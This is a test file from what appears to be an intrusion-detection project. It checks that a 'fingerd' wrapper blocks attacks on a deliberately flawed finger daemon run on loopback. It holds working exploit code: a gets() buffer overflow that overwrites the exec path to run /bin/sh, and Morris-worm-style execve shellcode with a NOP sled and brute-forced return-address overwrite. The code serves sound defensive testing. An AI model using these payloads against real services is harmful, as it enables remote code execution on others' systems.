/**
 * The fingerd wrapper (docs/wrappers.md, "fingerd") on a real attack
 * against a real flawed finger daemon: tests/progs/flawed_fingerd.c, which
 * reads its query with gets() into a 512-byte buffer and execs the finger
 * program (here tests/progs/finger_stub.c) with the query's words, on
 * 127.0.0.1 and a free port.
 *
 * The exploit, sent as one query: "-c echo${IFS}pwned>MARKER", a NUL, filler
 * to 512 bytes, then "/bin/sh". gets() copies it all (NULs included) and
 * overruns the buffer into the program path beside it, so the daemon execs
 * /bin/sh -c 'echo${IFS}pwned>MARKER' instead of finger: the shell creates
 * the marker file. This is the 1988 worm's bug (gets() into fingerd's
 * 512-byte buffer) and its goal (a shell run by the daemon), reached by
 * overwriting the adjacent exec path. The second half of the file exploits
 * the same bug the worm's way, overwriting the return address to run code
 * sent in the query, on a copy built with an executable stack and run
 * without ASLR (see there and docs/wrappers.md).
 *
 * Unwrapped, the shell runs (the control). Under a policy binding fingerd to
 * flawed_fingerd (its port, its finger program), the execve of /bin/sh is
 * alerted and denied with EACCES whatever the response, and no marker
 * appears. Benign queries under the same policy raise no alert (each an
 * execve of the finger program, which the wrapper allows); the exploit sent
 * after them in the same run is alerted, so the wrapper was bound all along.
 */
import { scratchDir } from "../temp.ts";
import { deepStrictEqual as assertEquals, ok as assert } from "node:assert/strict";
import type { HostEvent } from "../../host/events.ts";
import { exists, prog, reports, ROOT } from "../helpers.ts";
import { freePort } from "../loopback.ts";
import { alertTexts, exchange, faultTexts, LoopbackServer, publicTempDir } from "../loopback_server.ts";

const FINGERD = prog("flawed_fingerd");
const FINGER = prog("finger_stub");
const LINE = 512; // struct query's line[]
// Wrappers judge the file the kernel runs (its canonical path: /bin/sh is dash on Debian).
const ALERT_SHELL = `fingerd: fingerd: execve of ${Deno.realPathSync("/bin/sh")}: not a program this server may run`;
const ALERT_UNREADABLE = "fingerd: fingerd: execve of ?: not a program this server may run";

/** The overflowing query: argv words, NUL, filler to LINE bytes, the program path to exec, CR LF. */
function exploit(marker: string): Uint8Array {
  const words = new TextEncoder().encode(`-c echo\${IFS}pwned>${marker}`);
  assert(words.length < LINE && !/\s/.test(marker), marker);
  const query = new Uint8Array(LINE).fill(0x78); // 'x'
  query.set(words);
  query[words.length] = 0; // the word parser stops here; gets() does not
  return new Uint8Array([...query, ...new TextEncoder().encode("/bin/sh\0\r\n")]);
}

interface Site {
  dir: string;
  port: number;
}

async function site(): Promise<Site> {
  return { dir: await publicTempDir("idwrap-fingerd-"), port: freePort() };
}

/** The fingerd wrapper bound to flawed_fingerd for a site. */
async function policy(s: Site, response: "alert" | "deny"): Promise<string> {
  const file = `${s.dir}/fingerd-${response}.yaml`;
  await Deno.writeTextFile(
    file,
    `version: 1
name: flawed-fingerd-${response}
wrappers:
  - name: fingerd
    settings:
      finger: "${FINGER}"
      ports: [${s.port}]
      response: ${response}
    activate:
      program: flawed_fingerd
`,
  );
  return file;
}

function start(s: Site, policyFile?: string, flags: string[] = []): Promise<LoopbackServer> {
  return LoopbackServer.start([FINGERD, String(s.port), FINGER], s.port, policyFile, flags);
}

/** The marker appears (the shell ran) within a second, or not. */
async function appears(path: string): Promise<boolean> {
  for (let i = 0; i < 20; i++) {
    if (await exists(path)) return true;
    await new Promise((r) => setTimeout(r, 50));
  }
  return false;
}

Deno.test("flawed_fingerd unwrapped: a normal query runs finger, the overflowing query runs a shell", async () => {
  const s = await site();
  const marker = `${s.dir}/pwned`;
  const server = await start(s);
  let normal: string, attacked: string;
  try {
    normal = await exchange(s.port, ["root\r\n"]);
    attacked = await exchange(s.port, [exploit(marker)]);
  } finally {
    await server.stop();
  }
  assert(normal.startsWith("Login: root\t"), normal);
  assertEquals(attacked, "", "the shell's echo went to the marker");
  assert(await appears(marker), "the shell did not run");
  assertEquals(await Deno.readTextFile(marker), "pwned\n");
  await Deno.remove(s.dir, { recursive: true });
});

Deno.test("fingerd wrapper: benign queries to flawed_fingerd raise no alert (the exploit after them does)", async () => {
  const s = await site();
  const server = await start(s, await policy(s, "deny"));
  const got: string[] = [];
  let probe: string;
  let events: HostEvent[];
  try {
    for (let i = 0; i < 5; i++) {
      got.push(await exchange(s.port, ["root\r\n"]));
      got.push(await exchange(s.port, ["/W root\r\n"]));
      got.push(await exchange(s.port, ["\r\n"]));
      got.push(await exchange(s.port, ["nosuchuser\r\n"]));
    }
    // The control that the wrapper was bound and judging all along: the same run's one violation.
    probe = await exchange(s.port, [exploit(`${s.dir}/pwned`)]);
  } finally {
    events = (await server.stop()).events;
  }
  assertEquals(alertTexts(events), [ALERT_SHELL]);
  assertEquals(probe, "fingerd: cannot run /bin/sh: Permission denied\r\n");
  assertEquals(faultTexts(events), []);
  for (let i = 0; i < got.length; i += 4) {
    assert(got[i].startsWith("Login: root\t"), got[i]);
    assert(got[i + 1].startsWith("Login: root\t"), got[i + 1]);
    assertEquals(got[i + 2], "No one logged on.\r\n");
    assertEquals(got[i + 3], "finger: nosuchuser: no such user.\r\n");
  }
  await Deno.remove(s.dir, { recursive: true });
});

for (const response of ["alert", "deny"] as const) {
  Deno.test(`fingerd wrapper (response ${response}): the overflow's execve of /bin/sh is denied`, async () => {
    const s = await site();
    const marker = `${s.dir}/pwned`;
    const server = await start(s, await policy(s, response));
    let attacked: string, normal: string;
    let events: HostEvent[];
    try {
      attacked = await exchange(s.port, [exploit(marker)]);
      normal = await exchange(s.port, ["root\r\n"]);
    } finally {
      events = (await server.stop()).events;
    }
    assertEquals(alertTexts(events), [ALERT_SHELL]);
    assertEquals(reports(events, "alert")[0].severity, 3);
    assertEquals(faultTexts(events), []);
    assertEquals(attacked, "fingerd: cannot run /bin/sh: Permission denied\r\n");
    assert(!(await appears(marker)), "the shell ran under the wrapper");
    assert(normal.startsWith("Login: root\t"), "the daemon still answers");
    await Deno.remove(s.dir, { recursive: true });
  });
}

// ---------------------------------------------------------------------------------------------- the worm's way
//
// The same bug exploited as the 1988 worm did: the query overruns line[512], the rest of struct query and
// answer()'s frame up to its saved return address, which it replaces with the address of machine code sent in the
// query itself (x86-64 here, VAX then): when answer() returns, the code runs execve("/bin/sh", ["/bin/sh", "-c",
// COMMAND]). The program path is overwritten with what it held (the attacker keeps finger in place), so finger still
// answers first.
//
// That needs the 1988 machine: an executable stack (-z execstack), no stack protector and no ASLR, so this copy of
// flawed_fingerd is built here with -O0 -fno-stack-protector -z execstack and started under `setarch -R`. The
// buffer's address is not known to the attacker: it is brute-forced, one connection per guess, each guess covering
// the length of a NOP sled (a wrong guess crashes only that connection's child). The offset of the return address
// is read from the binary (objdump), as an attacker reads their copy of the daemon.

const WORM_DIR = await scratchDir({ prefix: "idwrap-fingerd-worm-" });
await Deno.chmod(WORM_DIR, 0o755);
const WORM_FINGERD = `${WORM_DIR}/flawed_fingerd`; // the name the policy binds

/** Runs a build tool; its stdout. */
async function tool(cmd: string, args: string[]): Promise<string> {
  const r = await new Deno.Command(cmd, { args }).output();
  const dec = new TextDecoder();
  if (!r.success) throw new Error(`${cmd} ${args.join(" ")}:\n${dec.decode(r.stderr)}`);
  return dec.decode(r.stdout);
}

await tool(Deno.env.get("CC") ?? "cc", [
  "-O0",
  "-fno-stack-protector",
  "-z",
  "execstack",
  "-o",
  WORM_FINGERD,
  `${ROOT}tests/progs/flawed_fingerd.c`,
]);

/** The distance from q.line to answer()'s saved return address: `lea -N(%rbp)` handed to gets(), plus the saved rbp. */
async function returnOffset(): Promise<number> {
  const dis = (await tool("objdump", ["-d", "--no-show-raw-insn", WORM_FINGERD])).split("\n");
  const start = dis.findIndex((l) => l.endsWith("<answer>:"));
  const call = dis.findIndex((l, i) => i > start && l.includes("<gets@plt>"));
  const lea = dis.slice(start, call).reverse().find((l) => /lea\s+-0x[0-9a-f]+\(%rbp\),%rax/.test(l));
  if (start < 0 || call < 0 || !lea) throw new Error("objdump: no gets() call with a frame buffer in answer()");
  return parseInt(lea.match(/-0x([0-9a-f]+)\(%rbp\)/)![1], 16) + 8;
}

/** The machine code: execve("/bin/sh", ["/bin/sh", "-c", command, NULL], NULL), then exit(1). */
async function shellcode(command: string): Promise<Uint8Array> {
  const asm = `${WORM_DIR}/sc.s`;
  await Deno.writeTextFile(
    asm,
    `.text
  lea sh(%rip), %rdi
  xor %edx, %edx
  push %rdx
  lea cmd(%rip), %rax
  push %rax
  lea dashc(%rip), %rax
  push %rax
  push %rdi
  mov %rsp, %rsi
  mov $59, %eax
  syscall
  mov $60, %eax
  mov $1, %edi
  syscall
sh: .asciz "/bin/sh"
dashc: .asciz "-c"
cmd: .asciz ${JSON.stringify(command)}
`,
  );
  await tool(Deno.env.get("CC") ?? "cc", ["-c", "-o", `${WORM_DIR}/sc.o`, asm]);
  await tool("objcopy", ["-O", "binary", "-j", ".text", `${WORM_DIR}/sc.o`, `${WORM_DIR}/sc.bin`]);
  return await Deno.readFile(`${WORM_DIR}/sc.bin`);
}

/** The query for one guess of the sled's address. Returns the query and how many addresses one guess covers. */
function wormQuery(code: Uint8Array, retOffset: number, guess: bigint): Uint8Array {
  const q = new Uint8Array(retOffset + 8).fill(0x41);
  q[0] = 0; // an empty query for the word parser: it writes nothing into the sled
  const codeAt = LINE - code.length;
  q.fill(0x90, 1, codeAt); // the NOP sled
  q.set(code, codeAt);
  const finger = new TextEncoder().encode(`${FINGER}\0`);
  assert(finger.length <= 64);
  q.set(finger, LINE); // struct query's program[64]: kept as it was
  for (let i = 0; i < 8; i++) q[retOffset + i] = Number((guess >> BigInt(8 * i)) & 0xffn);
  assert(!q.includes(0x0a), "a newline would end gets()");
  return new Uint8Array([...q, 0x0a]);
}

/**
 * Guesses from the top of the (unrandomised) stack down, one sled length apart, skipping addresses with a newline
 * byte. Stops at the first guess for which stop() holds, or after `limit` bytes; the number of guesses made.
 */
async function bruteForce(
  port: number,
  code: Uint8Array,
  stop: () => Promise<boolean>,
  limit = 0x10000,
): Promise<number> {
  const retOffset = await returnOffset();
  const sled = BigInt(LINE - code.length - 2);
  const top = 0x7ffffffff000n;
  let guesses = 0;
  for (let guess = top - 16n; guess > top - BigInt(limit); guess -= sled) {
    let g = guess;
    while ([0, 1, 2].some((i) => Number((g >> BigInt(8 * i)) & 0xffn) === 0x0a)) g -= 1n;
    guesses++;
    await exchange(port, [wormQuery(code, retOffset, g)]);
    if (await stop()) break;
  }
  return guesses;
}

function startWorm(s: Site, policyFile?: string): Promise<LoopbackServer> {
  return LoopbackServer.start(["setarch", "x86_64", "-R", WORM_FINGERD, String(s.port), FINGER], s.port, policyFile);
}

Deno.test("flawed_fingerd unwrapped, the worm's way: a return-address overwrite runs code sent in the query", async () => {
  const s = await site();
  const marker = `${s.dir}/pwned`;
  const code = await shellcode(`echo pwned >${marker}`);
  const server = await startWorm(s);
  let guesses: number;
  try {
    guesses = await bruteForce(s.port, code, () => exists(marker));
  } finally {
    await server.stop();
  }
  assert(await exists(marker), `no guess of ${guesses} reached the code`);
  assertEquals(await Deno.readTextFile(marker), "pwned\n");
  await Deno.remove(s.dir, { recursive: true });
});

for (const response of ["alert", "deny"] as const) {
  Deno.test(`fingerd wrapper (response ${response}), the worm's way: the injected code's execve is denied`, async () => {
    const s = await site();
    const marker = `${s.dir}/pwned`;
    const code = await shellcode(`echo pwned >${marker}`);
    const server = await startWorm(s, await policy(s, response));
    let events: HostEvent[];
    let normal: string;
    try {
      // Every guess over the same range (the wrapped daemon's stack may sit a little lower: idwrap's launcher runs it).
      await bruteForce(s.port, code, () => Promise.resolve(false));
      normal = await exchange(s.port, ["root\r\n"]);
    } finally {
      events = (await server.stop()).events;
    }
    assert(!(await exists(marker)), "the injected code's shell ran under the wrapper");
    const alerts = alertTexts(events);
    assert(alerts.includes(ALERT_SHELL), `no guess reached the injected code: ${JSON.stringify(alerts)}`);
    // A guess can also land inside the code, past its first instruction: its execve then takes a stale %rdi, a path
    // that cannot be read ("?"), which the wrapper refuses as well. Where the stack sits (and so which guesses do
    // that) depends on the environment's size: the repository's path, the machine.
    for (const a of alerts) assert(a === ALERT_SHELL || a === ALERT_UNREADABLE, a);
    assertEquals(faultTexts(events), []);
    assert(normal.startsWith("Login: root\t"), "the daemon still answers");
    await Deno.remove(s.dir, { recursive: true });
  });
}
